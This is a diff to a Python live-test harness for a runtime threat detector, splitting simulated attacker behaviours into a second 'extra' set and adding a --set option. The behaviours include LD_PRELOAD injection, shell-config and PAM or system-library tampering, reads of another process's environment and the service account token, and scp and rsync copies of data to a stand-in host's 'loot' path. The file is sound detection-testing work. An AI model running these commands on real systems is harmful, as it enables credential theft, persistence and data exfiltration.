@@ -41,11 +41,19 @@ class Behaviour:
 BEHAVIOURS = []
 
 
-def behaviour(bid, what, falco, vigil, where=HOST, note="", background=False):
+def behaviour(bid, what, falco, vigil, where=HOST, note="", background=False, extra=False):
     def deco(fn):
-        BEHAVIOURS.append(Behaviour(bid, what, falco, vigil if isinstance(vigil, list) else [vigil], where, fn, note, background))
+        b = Behaviour(bid, what, falco, vigil if isinstance(vigil, list) else [vigil], where, fn, note, background)
+        b.extra = extra
+        BEHAVIOURS.append(b)
         return fn
     return deco
+
+
+def extra_behaviour(*args, **kw):
+    """A behaviour of the second set (issue 12: more incubating rules and Tracee's signatures), run
+    with --set extra (its own agent, so each run stays short on a loaded machine)."""
+    return behaviour(*args, extra=True, **kw)
 
 
 class Ctx:
@@ -785,14 +793,14 @@ LIB_WRITE = "System library or PAM module written"
 SYSRQ = "Magic SysRq triggered or enabled"
 
 
-@behaviour("ld-preload", "a program started with LD_PRELOAD naming a library in a scratch directory", None, LD_PRELOAD_RULE,
+@extra_behaviour("ld-preload", "a program started with LD_PRELOAD naming a library in a scratch directory", None, LD_PRELOAD_RULE,
            note="no Falco rule (needs proc.env); Tracee: LD_PRELOAD code injection")
 def _(c, b):
     lib = os.path.join(c.dir(b), "libhook.so")
     c.runner(b)(["/usr/bin/id", b.token], env={"PATH": "/usr/bin:/bin", "LD_PRELOAD": lib})
 
 
-@behaviour("ld-audit-execveat-pod", "LD_AUDIT passed in the environment of an execveat in a pod", None, LD_PRELOAD_RULE, POD,
+@extra_behaviour("ld-audit-execveat-pod", "LD_AUDIT passed in the environment of an execveat in a pod", None, LD_PRELOAD_RULE, POD,
            note="no Falco rule; Tracee: LD_PRELOAD/LD_AUDIT code injection")
 def _(c, b):
     lib = os.path.join(c.dir(b), "audit.so").encode()
@@ -803,14 +811,14 @@ def _(c, b):
          env={"PYTHONPATH": LIVE})
 
 
-@behaviour("ld-preload-sudo-pod", "sudo-style: LD_PRELOAD set for one command by a shell in a pod", None, LD_PRELOAD_RULE, POD,
+@extra_behaviour("ld-preload-sudo-pod", "sudo-style: LD_PRELOAD set for one command by a shell in a pod", None, LD_PRELOAD_RULE, POD,
            note="no Falco rule; the shell itself does not carry the variable, its child does")
 def _(c, b):
     lib = os.path.join(c.dir(b), "libpam_hook.so")
     c.runner(b)(["sh", "-c", f"LD_PRELOAD={lib} /bin/true {b.token}"])
 
 
-@behaviour("bashrc-append", "a line appended to a user's .bashrc by a script", "Modify Shell Configuration File" + INC, SHELL_CONFIG)
+@extra_behaviour("bashrc-append", "a line appended to a user's .bashrc by a script", "Modify Shell Configuration File" + INC, SHELL_CONFIG)
 def _(c, b):
     h = home_dir(c, b)
     try:
@@ -819,7 +827,7 @@ def _(c, b):
         shutil.rmtree(h, ignore_errors=True)
 
 
-@behaviour("profile-d-rename-pod", "a script renamed into /etc/profile.d with renameat2 (as sed -i does) in a pod",
+@extra_behaviour("profile-d-rename-pod", "a script renamed into /etc/profile.d with renameat2 (as sed -i does) in a pod",
            "Modify Shell Configuration File" + INC, SHELL_CONFIG, POD,
            note="Falco's rule watches opens for writing only: the rename is missed")
 def _(c, b):
@@ -835,7 +843,7 @@ def _(c, b):
             os.unlink(dst)
 
 
-@behaviour("zshrc-linkat", "a .zshrc hard-linked into a home directory (linkat)", "Modify Shell Configuration File" + INC, SHELL_CONFIG,
+@extra_behaviour("zshrc-linkat", "a .zshrc hard-linked into a home directory (linkat)", "Modify Shell Configuration File" + INC, SHELL_CONFIG,
            note="Falco's rule watches opens for writing only: the link is missed")
 def _(c, b):
     h = home_dir(c, b)
@@ -849,7 +857,7 @@ def _(c, b):
         shutil.rmtree(h, ignore_errors=True)
 
 
-@behaviour("dev-file-create", "a hidden file created directly in /dev", "Create files below dev" + INC, DEV_CREATE)
+@extra_behaviour("dev-file-create", "a hidden file created directly in /dev", "Create files below dev" + INC, DEV_CREATE)
 def _(c, b):
     p = f"/dev/.vigil-{os.path.basename(c.scratch)}"
     try:
@@ -859,7 +867,7 @@ def _(c, b):
             os.unlink(p)
 
 
-@behaviour("dev-hidden-dir-openat2-pod", "a file created with openat2 in a hidden directory below /dev, in a privileged pod",
+@extra_behaviour("dev-hidden-dir-openat2-pod", "a file created with openat2 in a hidden directory below /dev, in a privileged pod",
            "Create files below dev" + INC, DEV_CREATE, PRIV, note="Falco's rule looks at /dev itself only: missed")
 def _(c, b):
     d = f"/dev/.vigil-{os.path.basename(c.scratch)}-d"
@@ -871,25 +879,25 @@ def _(c, b):
         shutil.rmtree(d, ignore_errors=True)
 
 
-@behaviour("environ-read-pod", "another process's /proc/PID/environ read by a script in a pod",
+@extra_behaviour("environ-read-pod", "another process's /proc/PID/environ read by a script in a pod",
            "Read environment variable from /proc files" + INC, ENVIRON_READ, POD)
 def _(c, b):
     c.py(b, "import subprocess\nchild = subprocess.Popen(['sleep', '30'])\nopen('/proc/%d/environ' % child.pid, 'rb').read()\n"
             "child.kill(); child.wait()")
 
 
-@behaviour("environ-read-cat-pod", "a shell starts a process and cats its /proc/PID/environ in a pod",
+@extra_behaviour("environ-read-cat-pod", "a shell starts a process and cats its /proc/PID/environ in a pod",
            "Read environment variable from /proc files" + INC, ENVIRON_READ, POD)
 def _(c, b):
     c.runner(b)(["sh", "-c", f"sleep 30 & cat /proc/$!/environ /dev/null/{b.token}; kill $!"])
 
 
-@behaviour("scp-pod", "scp started in a pod", "Launch Remote File Copy Tools in Container" + INC, REMOTE_COPY, POD)
+@extra_behaviour("scp-pod", "scp started in a pod", "Launch Remote File Copy Tools in Container" + INC, REMOTE_COPY, POD)
 def _(c, b):
     c.runner(b)([c.tool(b, "scp"), "-r", "/data", f"{b.token}@203.0.113.9:/loot"])
 
 
-@behaviour("rsync-pod", "rsync started in a pod (another tool, another argument order)", "Launch Remote File Copy Tools in Container" + INC,
+@extra_behaviour("rsync-pod", "rsync started in a pod (another tool, another argument order)", "Launch Remote File Copy Tools in Container" + INC,
            REMOTE_COPY, POD)
 def _(c, b):
     c.runner(b)([c.tool(b, "rsync"), f"rsync://203.0.113.9/{b.token}", "-az", "/tmp/"])
@@ -902,7 +910,7 @@ def _libdir():
     return "/usr/lib"
 
 
-@behaviour("libkeyutils-write", "a new libkeyutils.so.1.* written in the system library directory (Ebury-style)", None, LIB_WRITE,
+@extra_behaviour("libkeyutils-write", "a new libkeyutils.so.1.* written in the system library directory (Ebury-style)", None, LIB_WRITE,
            note="no Falco rule (Falco's CVE-2024-3094 rule watches sshd loading liblzma)")
 def _(c, b):
     p = os.path.join(_libdir(), f"libkeyutils.so.1.vigil-{os.path.basename(c.scratch)}")
@@ -913,7 +921,7 @@ def _(c, b):
             os.unlink(p)
 
 
-@behaviour("pam-module-rename-pod", "a PAM module renamed into the security directory (renameat2) in a pod", None, LIB_WRITE, POD,
+@extra_behaviour("pam-module-rename-pod", "a PAM module renamed into the security directory (renameat2) in a pod", None, LIB_WRITE, POD,
            note="no Falco rule")
 def _(c, b):
     sec = os.path.join(_libdir(), "security")
@@ -933,7 +941,7 @@ def _(c, b):
             shutil.rmtree(sec, ignore_errors=True)
 
 
-@behaviour("sshd-liblzma", "a program named sshd opens liblzma.so.5.6.1", "Backdoored library loaded into SSHD (CVE-2024-3094)" + INC,
+@extra_behaviour("sshd-liblzma", "a program named sshd opens liblzma.so.5.6.1", "Backdoored library loaded into SSHD (CVE-2024-3094)" + INC,
            "Backdoored xz library loaded")
 def _(c, b):
     lib = os.path.join(c.dir(b), "liblzma.so.5.6.1")
@@ -945,38 +953,38 @@ def _(c, b):
 # Kernels without CONFIG_MAGIC_SYSRQ (this test machine's) have neither file: the SysRq behaviours
 # run where the kernel has them (the rule is rule-tested everywhere, rules/tests/incubating.yaml).
 if os.path.exists("/proc/sysrq-trigger"):
-    @behaviour("sysrq-trigger-pod", "/proc/sysrq-trigger opened for writing (nothing written) in a privileged pod", None, SYSRQ, PRIV,
+    @extra_behaviour("sysrq-trigger-pod", "/proc/sysrq-trigger opened for writing (nothing written) in a privileged pod", None, SYSRQ, PRIV,
                note="no Falco rule; a write would crash or reboot the node")
     def _(c, b):
         c.py(b, "import os\nos.close(os.open('/proc/sysrq-trigger', os.O_WRONLY))")
 
 if os.path.exists("/proc/sys/kernel/sysrq"):
-    @behaviour("sysrq-enable", "/proc/sys/kernel/sysrq written (its value written back)", None, SYSRQ, note="no Falco rule")
+    @extra_behaviour("sysrq-enable", "/proc/sys/kernel/sysrq written (its value written back)", None, SYSRQ, note="no Falco rule")
     def _(c, b):
         c.py(b, "p = '/proc/sys/kernel/sysrq'\nv = open(p).read()\nf = open(p, 'w')\nf.write(v)\nf.close()")
 
 
-@behaviour("core-pattern-openat2-pod", "core_pattern opened for writing with openat2 in a privileged pod (nothing written)", None,
+@extra_behaviour("core-pattern-openat2-pod", "core_pattern opened for writing with openat2 in a privileged pod (nothing written)", None,
            "Kernel usermode helper changed", PRIV, note="no Falco rule; Tracee: core_pattern modification")
 def _(c, b):
     c.py(b, "import livelib as L, os\nfd = L.openat2('/proc/sys/kernel/core_pattern', os.O_WRONLY)\nassert fd >= 0, fd\nos.close(fd)",
          env={"PYTHONPATH": LIVE})
 
 
-@behaviour("kcore-openat2-pod", "/proc/kcore opened with openat2 in a privileged pod", None, "Kernel memory read", PRIV,
+@extra_behaviour("kcore-openat2-pod", "/proc/kcore opened with openat2 in a privileged pod", None, "Kernel memory read", PRIV,
            note="no Falco rule; Tracee: kernel memory read (/proc/kcore)")
 def _(c, b):
     c.py(b, "import livelib as L, os\nfd = L.openat2('/proc/kcore')\nassert fd >= 0, fd\nos.close(fd)", env={"PYTHONPATH": LIVE})
 
 
-@behaviour("proc-mem-write-thread-pod", "/proc/PID/task/TID/mem of another process opened for writing in a pod", None,
+@extra_behaviour("proc-mem-write-thread-pod", "/proc/PID/task/TID/mem of another process opened for writing in a pod", None,
            "Process memory written through /proc", POD, note="no Falco rule; Tracee: code injection through /proc/PID/mem")
 def _(c, b):
     c.py(b, "import subprocess, os\nchild = subprocess.Popen(['sleep', '30'])\n"
             "fd = os.open('/proc/%d/task/%d/mem' % (child.pid, child.pid), os.O_WRONLY)\nos.close(fd)\nchild.kill(); child.wait()")
 
 
-@behaviour("sa-token-openat2-pod", "the service account token read by a script with openat2 in a pod", None,
+@extra_behaviour("sa-token-openat2-pod", "the service account token read by a script with openat2 in a pod", None,
            "Service account token read in container", POD, note="no Falco rule; Tracee: service account token read")
 def _(c, b):
     d = "/var/run/secrets/kubernetes.io/serviceaccount"
@@ -992,7 +1000,7 @@ def _(c, b):
             shutil.rmtree("/var/run/secrets", ignore_errors=True)
 
 
-@behaviour("containerd-socket-pod", "a pod connects to a containerd.sock", None, "Container runtime socket accessed from container", POD,
+@extra_behaviour("containerd-socket-pod", "a pod connects to a containerd.sock", None, "Container runtime socket accessed from container", POD,
            note="no Falco rule; Tracee: container runtime socket access")
 def _(c, b):
     sock = os.path.join(c.dir(b), "containerd.sock")
@@ -1010,7 +1018,7 @@ def _(c, b):
 # ---------------------------------------------------------------------------
 
 
-def run_all(vigil, repo, falco_rules, workdir, only=None):
+def run_all(vigil, repo, falco_rules, workdir, only=None, behaviour_set="stable"):
     """`falco_rules`: Falco's stable file; its incubating file next to it is loaded too."""
     os.makedirs(workdir, exist_ok=True)
     drain_rules = os.path.join(workdir, "drain_rules.yaml")
@@ -1025,7 +1033,10 @@ def run_all(vigil, repo, falco_rules, workdir, only=None):
             falco_files.append(inc)
     rules = [os.path.join(repo, "rules", "vigil_rules.yaml")] + falco_files + [drain_rules]
     agent = L.Agent(vigil, os.path.join(repo, "rules", "vigil.yaml"), rules, workdir,
-                    options=["rule_matching=all", f"containerd.state_root={state}", "crio.enabled=false"])
+                    # An alert waits for its container's metadata up to 15 s (released as soon as it is
+                    # complete): on a loaded machine the bundle read can take longer than the default 100 ms.
+                    options=["rule_matching=all", f"containerd.state_root={state}", "crio.enabled=false",
+                             "metadata_wait_ms=15000"])
     cg = L.cgroup2_root()
     base = "vigil-" + os.path.basename(workdir)
     pods = {
@@ -1034,7 +1045,10 @@ def run_all(vigil, repo, falco_rules, workdir, only=None):
                     privileged=True),
     }
     ctx = Ctx(workdir, pods)
-    selected = [b for b in BEHAVIOURS if not only or b.id in only]
+    if only:
+        selected = [b for b in BEHAVIOURS if b.id in only]
+    else:
+        selected = [b for b in BEHAVIOURS if b.extra == (behaviour_set == "extra")]
     errors = {}
     try:
         agent.wait_ready()
@@ -1128,6 +1142,8 @@ def main():
     ap.add_argument("--out")
     ap.add_argument("--workdir", default=f"/var/tmp/vigil-live-{os.getpid()}")
     ap.add_argument("--only", nargs="*")
+    ap.add_argument("--set", choices=["stable", "extra"], default="stable",
+                    help="stable: Falco's stable rules and the first incubating/Tracee set; extra: the second set")
     ap.add_argument("--table", action="store_true")
     ap.add_argument("--keep-alerts", help="copy the agent's alert stream here")
     a = ap.parse_args()
@@ -1135,7 +1151,7 @@ def main():
         print(table())
         return 0
     try:
-        report = run_all(a.vigil, a.repo, a.falco_rules, a.workdir, set(a.only or []))
+        report = run_all(a.vigil, a.repo, a.falco_rules, a.workdir, set(a.only or []), a.set)
     finally:
         if a.keep_alerts and os.path.exists(os.path.join(a.workdir, "alerts.jsonl")):
             shutil.copyfile(os.path.join(a.workdir, "alerts.jsonl"), a.keep_alerts)
